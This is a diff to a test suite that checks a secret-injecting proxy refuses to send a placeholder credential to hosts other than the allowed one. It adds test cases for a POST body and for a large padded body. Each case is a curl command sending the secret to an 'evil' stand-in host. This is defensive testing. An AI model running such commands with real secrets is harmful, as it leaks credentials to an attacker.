@@ -171,6 +171,8 @@ describe("phantom tokens: sending the placeholder anywhere else", () => {
     ["another HTTPS host, basic auth", (p) => `curl -sS -o /dev/null -w "%{http_code}" -u "x:$secret:API" https://localhost:${p.evil}/echo`],
     ["another HTTPS host, a Host header naming the allowed one", (p) => `curl -sS -o /dev/null -w "%{http_code}" -H "Host: localhost:${p.api}" -H "Authorization: Bearer $secret:API" https://localhost:${p.evil}/echo`],
     ["the allowed host over plain http", (p) => `curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $secret:API" http://127.0.0.1:${p.plain}/`],
+    ["another HTTPS host, in a POST body", (p) => `curl -sS -o /dev/null -w "%{http_code}" --data-binary "token=$secret:API" https://localhost:${p.evil}/echo`],
+    ["another HTTPS host, in a large POST body", (p) => `head -c 300000 /dev/zero | tr '\\0' a > ${file("big")}; printf %s "$secret:API" >> ${file("big")}; curl -sS -o /dev/null -w "%{http_code}" --data-binary @${file("big")} https://localhost:${p.evil}/echo`],
     ["another header name to another host", (p) => `curl -sS -o /dev/null -w "%{http_code}" -H "X-Api-Key: $secret:API" https://localhost:${p.evil}/echo`],
   ];
   for (const [label, make] of cases) {
@@ -203,7 +205,7 @@ describe("phantom tokens: sending the placeholder anywhere else", () => {
   it("every refusal is in the audit log, with no value", () => {
     const refused = readAudit(sb).filter((e) => e.kind === "inject" && e.refused);
     expect(refused.length).toBeGreaterThanOrEqual(cases.length);
-    expect(new Set(refused.map((e) => e.refused))).toEqual(new Set(["INJECT_HOST", "INJECT_PLAINTEXT"]));
+    expect(new Set(refused.map((e) => e.refused))).toEqual(new Set(["INJECT_HOST", "INJECT_PLAINTEXT", "INJECT_BODY"]));
     expect(leaks(JSON.stringify(readAudit(sb)))).toBe(false);
   });
 });
